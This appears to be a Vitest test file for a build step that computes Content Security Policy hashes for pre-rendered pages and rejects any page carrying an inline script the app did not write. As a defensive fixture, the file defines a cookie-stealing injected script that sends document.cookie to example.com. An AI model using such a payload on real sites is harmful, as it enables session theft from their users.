/**
 * postbuild's CSP hashes: a pre-rendered page's policy allows the scripts the
 * app wrote into it (they carry the build's nonce) and no other; a page with
 * another inline script, from an article say, stops the build.
 */
import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { scriptHashSource } from "../server/csp.ts";

const nonce = "this-builds-nonce";
const ownScript = "window.a = 1;";
const injected = 'fetch("https://example.com/?" + document.cookie)';

/** A page as the pre-render writes it: the app's script with the nonce, and what the body brings. */
const page = (body: string) =>
  `<!DOCTYPE html><html><head><script nonce="${nonce}">${ownScript}</script></head><body><article>${body}</article></body></html>`;

function postbuild(buildDir: string) {
  return spawnSync(process.execPath, [path.resolve("tooling/postbuild.ts")], {
    env: { ...process.env, BUILD_DIR: buildDir },
    encoding: "utf8",
  });
}

describe("postbuild's script hashes", () => {
  let buildDir = "";
  beforeEach(async () => {
    buildDir = await mkdtemp(path.join(tmpdir(), "postbuild-"));
    await mkdir(path.join(buildDir, "client/blog"), { recursive: true });
    await writeFile(path.join(buildDir, "prerender-nonce"), nonce);
  });
  afterEach(async () => {
    await rm(buildDir, { recursive: true, force: true });
  });

  it("allow the app's own scripts and take the build's nonce out of the page", async () => {
    await writeFile(path.join(buildDir, "client/index.html"), page("<p>Text</p>"));
    const run = postbuild(buildDir);
    expect(run.stderr).toBe("");
    expect(run.status).toBe(0);
    const hashes = JSON.parse(await readFile(path.join(buildDir, "csp-hashes.json"), "utf8"));
    expect(hashes).toEqual({ "index.html": [scriptHashSource(ownScript)] });
    const html = await readFile(path.join(buildDir, "client/index.html"), "utf8");
    expect(html).not.toContain(nonce);
    expect(html).toContain(`<script>${ownScript}</script>`);
  });

  it("refuse a page with an inline script the app did not write, naming the page", async () => {
    await writeFile(
      path.join(buildDir, "client/blog/post.html"),
      page(`<p>Text</p><script>${injected}</script>`),
    );
    const run = postbuild(buildDir);
    expect(run.status).not.toBe(0);
    expect(run.stderr).toContain("blog/post.html has 1 inline script(s) the app did not write");
    expect(run.stderr).toContain("fetch(");
    expect(existsSync(path.join(buildDir, "csp-hashes.json"))).toBe(false);
  });
});
